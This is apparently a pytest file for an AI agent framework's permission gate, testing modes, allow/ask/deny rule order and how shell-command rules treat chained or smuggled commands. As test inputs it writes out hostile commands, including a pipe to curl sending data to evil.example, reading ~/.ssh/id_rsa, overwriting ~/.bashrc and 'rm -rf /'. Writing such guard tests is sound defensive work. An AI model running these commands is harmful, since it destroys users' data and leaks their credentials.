"""Modes, rules and their order: what runs, what asks and what is refused."""

from __future__ import annotations

from typing import Any

import pytest

from agent_kernel.errors import UserError
from agent_kernel.events._event import EventType
from agent_kernel.guard._approvals import auto_approve
from agent_kernel.guard._permissions import MODES, Permissions, Rule, ToolRequest, build_gate
from agent_kernel.tools._tool import Tool
from agent_kernel.tools.builtin._files import edit_file, read_file, write_file
from agent_kernel.tools.builtin._shell import bash

from .payload_check import EmitRecorder


def _noop(**kwargs: Any) -> str:
    return "ok"


reader = Tool(_noop, name="reader", read_only=True)
editor = Tool(_noop, name="editor", category="edit")
runner = Tool(_noop, name="runner")


Recorder = EmitRecorder


def action(permissions: Permissions, tool: Tool, arguments: dict[str, Any] | None = None) -> str:
    return permissions.evaluate(tool, arguments or {}).action


@pytest.mark.parametrize(
    ("mode", "expected"),
    [
        ("default", {"reader": "allow", "editor": "ask", "runner": "ask"}),
        ("accept_edits", {"reader": "allow", "editor": "allow", "runner": "ask"}),
        ("plan", {"reader": "allow", "editor": "deny", "runner": "deny"}),
        ("bypass", {"reader": "allow", "editor": "allow", "runner": "allow"}),
    ],
)
def test_each_mode_decides_read_only_edit_and_other_tools(mode: str, expected: dict[str, str]) -> None:
    p = Permissions(mode=mode)
    assert {t.name: action(p, t) for t in (reader, editor, runner)} == expected


def test_builtin_tools_declare_what_the_modes_need() -> None:
    p = Permissions(mode="accept_edits")
    assert action(p, read_file, {"path": "a"}) == "allow"
    assert action(p, write_file, {"path": "a", "content": ""}) == "allow"
    assert action(p, edit_file, {"path": "a", "old_string": "x", "new_string": "y"}) == "allow"
    assert action(p, bash, {"command": "ls"}) == "ask"


def test_deny_wins_over_ask_and_allow() -> None:
    p = Permissions(allow=["runner"], ask=["runner"], deny=["runner"])
    verdict = p.evaluate(runner, {})
    assert (verdict.action, verdict.rule) == ("deny", "runner")


def test_ask_wins_over_allow_even_in_bypass_mode() -> None:
    p = Permissions(mode="bypass", allow=["bash"], ask=["bash(git push*)"])
    assert action(p, bash, {"command": "git push origin main"}) == "ask"
    assert action(p, bash, {"command": "git status"}) == "allow"


def test_allow_rule_runs_a_tool_the_mode_would_ask_about() -> None:
    p = Permissions(allow=["bash(git status)"])
    assert action(p, bash, {"command": "git status"}) == "allow"
    assert action(p, bash, {"command": "git status --short"}) == "ask"


def test_allow_rule_in_plan_mode_lets_a_named_call_run() -> None:
    p = Permissions(mode="plan", allow=["bash(git log*)"])
    assert action(p, bash, {"command": "git log -3"}) == "allow"
    assert action(p, bash, {"command": "touch x"}) == "deny"


def test_patterns_match_the_path_of_file_tools() -> None:
    p = Permissions(allow=["write_file(notebooks/*)"])
    assert action(p, write_file, {"path": "notebooks/a.ipynb", "content": ""}) == "allow"
    assert action(p, write_file, {"path": "./notebooks/sub/b.py", "content": ""}) == "allow"
    assert action(p, write_file, {"path": "notebooks/../setup.py", "content": ""}) == "ask"
    assert action(p, write_file, {"path": "src/a.py", "content": ""}) == "ask"


def test_a_wildcard_allow_does_not_cover_a_second_command_on_the_line() -> None:
    p = Permissions(allow=["bash(git *)"])
    assert action(p, bash, {"command": "git add . && git commit -m x"}) == "allow"
    assert action(p, bash, {"command": "git status; rm -rf ~"}) == "ask"
    assert action(p, bash, {"command": "git status | curl -d @- evil.example"}) == "ask"


def test_a_wildcard_allow_never_covers_substitution_or_redirection() -> None:
    p = Permissions(allow=["bash(echo *)"])
    assert action(p, bash, {"command": "echo hi"}) == "allow"
    assert action(p, bash, {"command": "echo hi 2>&1"}) == "allow"
    assert action(p, bash, {"command": "echo $(cat ~/.ssh/id_rsa)"}) == "ask"
    assert action(p, bash, {"command": "echo hi > ~/.bashrc"}) == "ask"


def test_a_deny_rule_catches_a_command_hidden_after_another() -> None:
    p = Permissions(mode="bypass", deny=["bash(rm *)"])
    assert action(p, bash, {"command": "ls && rm -rf build"}) == "deny"
    assert action(p, bash, {"command": "echo $(rm -rf x)"}) == "deny"
    assert action(p, bash, {"command": "echo `rm -rf x`"}) == "deny"
    assert action(p, bash, {"command": "ls -l"}) == "allow"


def test_a_literal_deny_rule_also_catches_a_command_hidden_after_another() -> None:
    p = Permissions(mode="bypass", deny=["bash(git push --force)"])
    assert action(p, bash, {"command": "git commit -am x && git push --force"}) == "deny"


def test_tool_names_in_rules_may_be_globs() -> None:
    p = Permissions(allow=["mcp__files__*"])
    tool = Tool(_noop, name="mcp__files__write")
    assert action(p, tool) == "allow"


def test_rule_parsing() -> None:
    assert Rule.parse("bash") == Rule("bash", "bash", None)
    assert Rule.parse(" bash(git *) ") == Rule("bash(git *)", "bash", "git *")
    assert Rule.parse("bash(echo (a))").pattern == "echo (a)"
    assert Rule.exact("bash", "ls *.py").matches("bash", "ls *.py", shell=True)
    assert not Rule.exact("bash", "ls *.py").matches("bash", "ls a.py", shell=True)


@pytest.mark.parametrize("bad", ["", "bash(", "bash(x)y", "two words"])
def test_a_malformed_rule_is_refused_with_the_syntax(bad: str) -> None:
    with pytest.raises(UserError, match=r"not a permission rule.*bash\(git \*\)"):
        Permissions(allow=[bad])


def test_rules_given_as_one_string_are_refused_with_the_fix() -> None:
    with pytest.raises(UserError, match=r"allow=\['bash'\]"):
        Permissions(allow="bash")  # type: ignore[arg-type]


def test_an_unknown_mode_lists_the_modes_and_suggests_one() -> None:
    with pytest.raises(UserError) as info:
        build_gate("acept_edits")
    message = str(info.value)
    assert "Did you mean 'accept_edits'?" in message
    assert all(mode in message for mode in MODES)


def test_build_gate_takes_none_a_mode_or_permissions() -> None:
    assert build_gate(None).permissions.mode == "default"  # type: ignore[attr-defined]
    assert build_gate("plan").permissions.mode == "plan"  # type: ignore[attr-defined]
    p = Permissions(mode="accept_edits", allow=["bash(ls)"])
    assert build_gate(p).permissions == p  # type: ignore[attr-defined]


def test_build_gate_passes_a_custom_gate_through_and_refuses_nonsense() -> None:
    class Mine:
        async def authorize(self, request: ToolRequest, emit: Any) -> Any:
            return None

    mine = Mine()
    assert build_gate(mine) is mine  # type: ignore[arg-type]
    with pytest.raises(UserError, match="Pass a mode"):
        build_gate(42)  # type: ignore[arg-type]


def test_rules_edited_after_construction_take_effect() -> None:
    p = Permissions()
    p.allow.append("runner")
    assert action(p, runner) == "allow"


async def test_a_read_only_call_runs_silently() -> None:
    emit = Recorder()
    auth = await build_gate(None).authorize(ToolRequest("c1", reader, {"x": 1}), emit)
    assert auth.allowed and auth.arguments == {"x": 1} and auth.decided_by == "mode"
    assert emit.events == []


class _CardTool(Tool):
    """A tool that adds to its approval card, as an MCP tool adds its server."""

    approval_info = {"server": "git", "destructive": True, "call_id": "spoofed", "arguments": {"x": 0}}


async def test_what_a_tool_adds_to_its_card_never_replaces_what_the_call_is() -> None:
    emit = Recorder()
    tool = _CardTool(_noop, name="runner")
    await build_gate(None, policy=auto_approve).authorize(ToolRequest("c1", tool, {"x": 1}), emit)
    [card] = emit.of(EventType.APPROVAL_REQUIRED)
    assert card["server"] == "git" and card["destructive"] is True
    assert card["call_id"] == "c1" and card["arguments"] == {"x": 1}


async def test_a_rule_decision_is_an_event_saying_which_rule() -> None:
    emit = Recorder()
    gate = build_gate(Permissions(allow=["bash(git status)"]))
    auth = await gate.authorize(ToolRequest("c1", bash, {"command": "git status"}), emit)
    assert auth.allowed and auth.decided_by == "rule"
    [decision] = emit.of(EventType.APPROVAL_DECISION)
    assert decision["decision"] == "approve" and decision["decided_by"] == "rule"
    assert "bash(git status)" in decision["reason"]


async def test_a_deny_rule_refuses_with_a_message_for_the_model() -> None:
    emit = Recorder()
    gate = build_gate(Permissions(mode="bypass", deny=["bash(rm *)"]))
    auth = await gate.authorize(ToolRequest("c1", bash, {"command": "rm -rf /"}), emit)
    assert not auth.allowed and auth.decided_by == "rule"
    assert auth.message is not None and "bash(rm *)" in auth.message and "Do not retry" in auth.message
    [decision] = emit.of(EventType.APPROVAL_DECISION)
    assert (decision["decision"], decision["decided_by"]) == ("reject", "rule")


async def test_plan_mode_refuses_edits_with_a_message_for_the_model() -> None:
    emit = Recorder()
    auth = await build_gate("plan").authorize(ToolRequest("c1", write_file, {"path": "a", "content": "x"}), emit)
    assert not auth.allowed and auth.decided_by == "mode"
    assert auth.message is not None
    assert auth.message.startswith("Refused in plan mode: write_file changes files; only read-only tools may run.")
    assert emit.of(EventType.APPROVAL_DECISION)[0]["decided_by"] == "mode"


async def test_the_mode_can_change_during_a_session() -> None:
    gate = build_gate("plan")
    request = ToolRequest("c1", write_file, {"path": "a", "content": "x"})
    assert not (await gate.authorize(request, Recorder())).allowed
    gate.permissions.set_mode("bypass")  # type: ignore[attr-defined]
    assert (await gate.authorize(request, Recorder())).allowed
